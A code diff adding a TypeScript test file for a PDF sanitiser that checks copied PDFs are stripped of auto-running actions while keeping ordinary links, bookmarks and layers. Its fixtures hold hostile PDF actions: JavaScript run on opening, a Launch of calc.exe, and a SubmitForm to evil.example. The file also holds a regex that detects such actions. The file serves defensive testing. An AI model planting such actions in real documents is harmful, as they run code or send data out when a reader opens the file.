@@ -1,0 +1,92 @@
+import { PDF, PdfArray, PdfDict } from '@libpdf/core';
+import { PDFDocument } from 'pdf-lib';
+import { afterAll, expect, test } from 'vitest';
+import { createPage, type PageParts } from '../../../test/support/bare-page.ts';
+import { PdfIntake } from './intake.ts';
+
+const words = 'BT /F1 14 Tf 72 700 Td (Price 100) Tj ET';
+const intake = new PdfIntake();
+afterAll(() => intake.close());
+
+/** The copy as its objects say it, whatever they are packed into. */
+async function copyOf(parts: PageParts): Promise<{ text: string; pdf: PDF }> {
+  const file = createPage(words, parts);
+  const { copy, completionMode } = await intake.read(file);
+  expect(completionMode).toBe('stamp');
+  const pdf = await PDF.load(copy ?? new Uint8Array(file));
+  const plain = await (await PDFDocument.load(copy ?? file)).save({ useObjectStreams: false });
+  return { text: Buffer.from(plain).toString('latin1'), pdf };
+}
+
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+test.each<[string, PageParts]>([
+  ['a script that runs on opening', { catalog: `/OpenAction ${script}` }],
+  ['a program that is started on opening', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
+  [
+    'an address that is fetched on opening',
+    { catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' },
+  ],
+  [
+    'what follows a harmless action',
+    { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` },
+  ],
+  ['scripts of the document', { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }],
+  ['actions of the document', { catalog: `/AA << /WP ${script} >>` }],
+  ['actions of a page', { page: `/AA << /O ${script} >>` }],
+  [
+    'the script of a link',
+    { page: '/Annots [6 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${script} >>`] },
+  ],
+  [
+    'the script of a bookmark',
+    {
+      catalog: '/Outlines 6 0 R',
+      objects: ['<< /First 7 0 R /Last 7 0 R /Count 1 >>', `<< /Title (x) /Parent 6 0 R /A ${script} >>`],
+    },
+  ],
+])('the copy does not bring along %s', async (_what, parts) => {
+  const { text } = await copyOf(parts);
+  expect(text).not.toMatch(/JavaScript|Launch|SubmitForm|app\.alert/);
+});
+
+test('links to places and addresses stay, bookmarks too', async () => {
+  const { text } = await copyOf({
+    catalog: '/Outlines 7 0 R /OpenAction [3 0 R /Fit]',
+    page: '/Annots [6 0 R]',
+    objects: [
+      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Border [0 0 1] /A << /S /URI /URI (https://example.com) >> >>',
+      '<< /First 8 0 R /Last 8 0 R /Count 1 >>',
+      '<< /Title (Chapter) /Parent 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>',
+    ],
+  });
+  expect(text).toContain('https://example.com');
+  expect(text).toContain('Chapter');
+  expect(text).toMatch(/\/OpenAction/);
+});
+
+test('a layer shows itself to those who print as to those who sign', async () => {
+  const { text } = await copyOf({
+    catalog:
+      '/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] /AS [<< /Event /Print /Category [/Print] /OCGs [6 0 R] >>] >> >>',
+    resources: '/Properties << /MC0 6 0 R >>',
+    objects: ['<< /Type /OCG /Name (x) /Usage << /Print << /PrintState /ON >> >> >>'],
+  });
+  expect(text).not.toMatch(/\/Usage|\/AS\b/);
+  expect(text).toMatch(/\/OFF/);
+});
+
+test('what is above the page and no link is hidden', async () => {
+  const { pdf } = await copyOf({
+    page: '/Annots [6 0 R]',
+    objects: ['<< /Type /Annot /Subtype /Square /Rect [0 0 90 90] /IC [1 1 1] /F 4 >>'],
+  });
+  const resolve = pdf.context.registry.resolve.bind(pdf.context.registry);
+  const annotations = pdf.getPages()[0]?.dict.get('Annots', resolve);
+  const left = annotations instanceof PdfArray ? annotations.at(0, resolve) : undefined;
+  expect(left instanceof PdfDict ? left.getNumber('F')?.value : 2).toBe(2);
+});
+
+test('words about a signature do not keep a file from being copied', async () => {
+  const marked = Buffer.concat([createPage(words), Buffer.from('% /ByteRange [0 1 2 3]\n')]);
+  expect(await intake.read(marked)).toMatchObject({ completionMode: 'stamp' });
+});
